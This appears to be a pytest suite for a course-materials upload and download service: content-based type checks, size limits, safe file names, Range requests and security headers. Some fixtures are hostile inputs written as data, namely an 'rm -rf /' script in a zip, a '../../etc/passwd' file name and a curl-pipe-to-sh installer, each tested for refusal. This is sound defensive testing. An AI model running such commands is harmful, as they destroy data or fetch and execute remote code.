"""Uploads: type by content, size limits, harmless names, nothing half-made, Range and safe headers."""
from __future__ import annotations

import io
from pathlib import Path

import pytest
from sqlalchemy import func, select

from core import storage
from core.extensions import db
from core.storage import DOCUMENT_KINDS, VIDEO_KINDS, UploadError, save_upload
from courses.demo_library import simple_docx, simple_pdf
from courses.materials import add_material
from courses.models import Material

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200 + b"This program cannot be run"


def stored_files(app) -> list[Path]:
    """Every file in the upload folder (temporary files included)."""
    root = Path(app.config["UPLOAD_FOLDER"])
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def material_count() -> int:
    return db.session.scalar(select(func.count()).select_from(Material))


def upload(client, data: bytes, filename: str, **fields):
    form = {"file": (io.BytesIO(data), filename), "audience": "public", **fields}
    return client.post("/materials/upload", data=form, content_type="multipart/form-data")


# --- type by content ---------------------------------------------------------------------------

def test_pdf_renamed_mp4_is_not_a_video(app):
    with pytest.raises(UploadError) as refused:
        save_upload(io.BytesIO(simple_pdf("标题", ["正文"])), allowed=VIDEO_KINDS)
    assert "不支持这种文件类型" in refused.value.message
    assert stored_files(app) == []


def test_exe_named_pdf_is_refused(app):
    from werkzeug.datastructures import FileStorage

    with pytest.raises(UploadError):
        save_upload(FileStorage(io.BytesIO(EXE), filename="a.pdf"), allowed=DOCUMENT_KINDS)
    assert stored_files(app) == []


def test_zip_that_is_not_a_word_document_is_refused(app):
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.sh", "rm -rf /")
    with pytest.raises(UploadError):
        save_upload(io.BytesIO(buffer.getvalue()), allowed=DOCUMENT_KINDS)


def test_path_traversal_name_is_harmless(app, tmp_path):
    from werkzeug.datastructures import FileStorage

    stored = save_upload(FileStorage(io.BytesIO("密码不在这里".encode()), filename="../../etc/passwd"),
                         allowed=DOCUMENT_KINDS)
    root = Path(app.config["UPLOAD_FOLDER"]).resolve()
    assert stored.path.resolve().is_relative_to(root)
    assert "passwd" not in stored.key and ".." not in stored.key
    assert stored.filename == "passwd.txt"
    assert stored.path.read_text(encoding="utf-8") == "密码不在这里"
    assert storage.path_for(stored.key) == stored.path
    with pytest.raises(ValueError):
        storage.path_for("../../etc/passwd")


def test_double_extension_gets_the_extension_of_its_content(app):
    from werkzeug.datastructures import FileStorage

    stored = save_upload(FileStorage(io.BytesIO(simple_pdf("标题", ["正文"])), filename="a.pdf.exe"),
                         allowed=DOCUMENT_KINDS)
    assert stored.kind == "pdf" and stored.filename == "a.pdf" and stored.key.endswith(".pdf")
    assert storage.safe_filename("学习.exe", "pdf") == "学习.pdf"


def test_gbk_text_is_stored_as_utf8(app):
    stored = save_upload(io.BytesIO("党员学习笔记：坚持不懈".encode("gbk")), allowed=DOCUMENT_KINDS)
    assert stored.kind == "txt"
    assert stored.path.read_text(encoding="utf-8") == "党员学习笔记：坚持不懈"


def test_images_are_recognised_by_their_signature(app):
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
    assert save_upload(io.BytesIO(png), allowed={"png", "jpeg", "webp"}).kind == "png"
    with pytest.raises(UploadError):
        save_upload(io.BytesIO(png), allowed=DOCUMENT_KINDS)


def test_empty_file_is_refused(app):
    with pytest.raises(UploadError) as refused:
        save_upload(io.BytesIO(b""), allowed=DOCUMENT_KINDS)
    assert "空" in refused.value.message


# --- size limits -------------------------------------------------------------------------------

def test_document_over_the_limit_is_refused_and_nothing_kept(app):
    app.config["MAX_DOCUMENT_BYTES"] = 1000
    with pytest.raises(UploadError) as refused:
        save_upload(io.BytesIO(("学习" * 400).encode()), allowed=DOCUMENT_KINDS)
    assert "文件太大" in refused.value.message and "1000 B" in refused.value.message
    assert stored_files(app) == []
    assert save_upload(io.BytesIO(("学习" * 100).encode()), allowed=DOCUMENT_KINDS).size == 600


def test_explicit_max_bytes_wins(app):
    with pytest.raises(UploadError):
        save_upload(io.BytesIO(b"x" * 2048), allowed=DOCUMENT_KINDS, max_bytes=1024)


def test_request_over_max_content_length_gets_413(app, client, auth, grid):
    app.config["MAX_CONTENT_LENGTH"] = 10_000
    auth.login(grid["trainer"])
    response = upload(client, b"a" * 20_000, "big.txt")
    assert response.status_code == 413
    assert material_count() == 0


def test_upload_page_refuses_too_large_document_with_a_message(app, client, auth, grid):
    app.config["MAX_DOCUMENT_BYTES"] = 100
    auth.login(grid["trainer"])
    response = upload(client, ("学习" * 100).encode(), "笔记.txt")
    assert response.status_code == 400
    assert "文件太大" in response.get_data(as_text=True)
    assert material_count() == 0 and stored_files(app) == []


# --- corrupt documents: clear message, nothing stored ----------------------------------------------

@pytest.mark.parametrize("filename, data, message", [
    ("坏的.pdf", simple_pdf("标题", ["正文" * 50])[:300], "无法读取这个 PDF 文件"),
    ("坏的.pdf", b"%PDF-1.4\n garbage garbage\n%%EOF", "无法读取这个 PDF 文件"),
    ("坏的.docx", simple_docx("标题", ["正文"])[:1500], "无法读取这个 Word 文件"),
])
def test_corrupt_document_gets_a_clear_message_and_nothing_is_stored(app, client, auth, grid, filename, data,
                                                                      message):
    auth.login(grid["trainer"])
    response = upload(client, data, filename)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert material_count() == 0
    assert stored_files(app) == []


def test_upload_page_adds_material_with_extracted_table_text(app, client, auth, grid):
    auth.login(grid["trainer"])
    docx = simple_docx("会议记录", ["开头的段落"], [["活动", "人数"], ["党小组会", "8"]])
    response = upload(client, docx, "记录.docx", title="三会一课记录", category="组织生活")
    assert response.status_code == 302
    material = db.session.scalar(select(Material))
    assert material.title == "三会一课记录" and material.file_kind == "docx"
    assert material.text.index("开头的段落") < material.text.index("党小组会\t8") < material.text.index("（完）")
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "党小组会" in page


def test_same_content_twice_is_refused_as_duplicate(app, client, auth, grid):
    auth.login(grid["trainer"])
    assert upload(client, "同一份资料".encode(), "一.txt", title="第一份").status_code == 302
    response = upload(client, "同一份资料".encode(), "二.txt")
    assert response.status_code == 409
    assert "第一份" in response.get_data(as_text=True)
    assert material_count() == 1 and len(stored_files(app)) == 1


def test_members_cannot_upload(client, auth, grid):
    auth.login(grid["members"]["R-1-1"][0])
    assert upload(client, "资料".encode(), "a.txt").status_code == 403


# --- serving: Range, headers -------------------------------------------------------------------

@pytest.fixture
def thousand_bytes(app, grid):
    data = bytes((i * 7 + 65) % 26 + 65 for i in range(1000))  # A-Z, valid text
    material = add_material(io.BytesIO(data), title="范围测试")
    material.filename = "党章学习资料.txt"
    db.session.commit()
    return material, data


@pytest.mark.parametrize("header, status, content_range, part", [
    ("bytes=0-99", 206, "bytes 0-99/1000", slice(0, 100)),
    ("bytes=100-", 206, "bytes 100-999/1000", slice(100, 1000)),
    ("bytes=-50", 206, "bytes 950-999/1000", slice(950, 1000)),
    ("bytes=990-2000", 206, "bytes 990-999/1000", slice(990, 1000)),
])
def test_range_requests_return_exact_bytes(client, auth, grid, thousand_bytes, header, status, content_range, part):
    material, data = thousand_bytes
    auth.login(grid["members"]["R-1-1"][0])
    response = client.get(f"/materials/{material.id}/file", headers={"Range": header})
    assert response.status_code == status
    assert response.headers["Content-Range"] == content_range
    assert response.data == data[part]
    assert int(response.headers["Content-Length"]) == len(data[part])


def test_unsatisfiable_range_is_416(client, auth, grid, thousand_bytes):
    material, _ = thousand_bytes
    auth.login(grid["members"]["R-1-1"][0])
    response = client.get(f"/materials/{material.id}/file", headers={"Range": "bytes=1000-"})
    assert response.status_code == 416
    assert response.headers["Content-Range"] == "bytes */1000"


def test_whole_file_with_safe_headers(client, auth, grid, thousand_bytes):
    material, data = thousand_bytes
    auth.login(grid["members"]["R-1-1"][0])
    response = client.get(f"/materials/{material.id}/file")
    assert response.status_code == 200 and response.data == data
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Accept-Ranges"] == "bytes"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("inline")
    assert "filename*=UTF-8''%E5%85%9A%E7%AB%A0" in disposition  # 党章… percent-encoded (RFC 5987)
    download = client.get(f"/materials/{material.id}/file?download=1")
    assert download.headers["Content-Disposition"].startswith("attachment")


def test_word_files_are_always_downloaded(app, client, auth, grid):
    material = add_material(io.BytesIO(simple_docx("标题", ["正文"])), title="文档")
    db.session.commit()
    auth.login(grid["members"]["R-1-1"][0])
    response = client.get(f"/materials/{material.id}/file")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_missing_stored_file_is_404(client, auth, grid, thousand_bytes):
    material, _ = thousand_bytes
    storage.path_for(material.file_key).unlink()
    auth.login(grid["members"]["R-1-1"][0])
    assert client.get(f"/materials/{material.id}/file").status_code == 404


def test_upload_folder_defaults_to_instance(app):
    app.config["UPLOAD_FOLDER"] = None
    assert storage.upload_root() == Path(app.instance_path) / "uploads"
    app.config["UPLOAD_FOLDER"] = "files"
    assert storage.upload_root() == Path(app.instance_path) / "files"


# --- programs and scraps are not materials (issue 17) ------------------------------------------------

@pytest.mark.parametrize("filename, data, message", [
    ("bad.exe", b"abcd", "不能上传程序文件"),  # 4 bytes of "text" named as a program
    ("bad.txt", b"abcd", "文件太小"),
    ("安装.txt", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "不能上传程序文件"),
    ("说明.txt", b"\x7fELF" + "第一条 内容".encode() * 20, "不能上传程序文件"),
    ("run.BAT", "学习资料学习资料学习资料".encode(), "不能上传程序文件"),
])
def test_programs_and_files_too_small_for_a_document_are_refused(app, client, auth, grid, filename, data, message):
    auth.login(grid["trainer"])
    response = upload(client, data, filename)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert material_count() == 0 and stored_files(app) == []


def test_a_short_real_document_is_still_taken(app, client, auth, grid):
    auth.login(grid["trainer"])
    assert upload(client, "第一条 党员必须认真学习。".encode(), "党章摘录.txt", title="党章摘录").status_code == 302
    assert material_count() == 1
